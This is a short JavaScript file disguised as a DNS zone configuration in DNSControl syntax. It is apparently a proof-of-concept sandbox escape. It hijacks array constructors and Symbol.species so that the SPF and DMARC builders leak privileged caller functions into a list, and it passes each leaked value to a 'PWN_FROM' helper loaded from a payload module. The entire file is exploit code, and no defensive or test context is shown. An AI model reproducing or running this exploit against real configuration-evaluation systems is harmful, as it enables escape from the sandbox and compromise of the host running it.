require("./lib/payload.js");
var leaked = [];
function Evil(n) { leaked.push(arguments.callee.caller, this); return []; }
Evil[Symbol.species] = Evil;
var list = ["a", "b"]; list.constructor = Evil;
var mods = [A("@", "192.0.2.1")]; mods.constructor = Evil;
D("sp.example", REG, DnsProvider(DSP), TXT("t", list), mods, SPF_BUILDER({ label: "@", parts: list.concat(["-all"]) }));
Array[Symbol.species]; try { Object.defineProperty(Array, Symbol.species, { get: function () { leaked.push(arguments.callee.caller); return Evil; } }); } catch (e) {}
D("sp2.example", REG, DnsProvider(DSP), TXT("t", ["x"]), DMARC_BUILDER({ policy: "none", rua: ["mailto:a@example.com"] }));
leaked.forEach(function (v, i) { if (i < 40 && v) PWN_FROM(v, "sp" + i); });
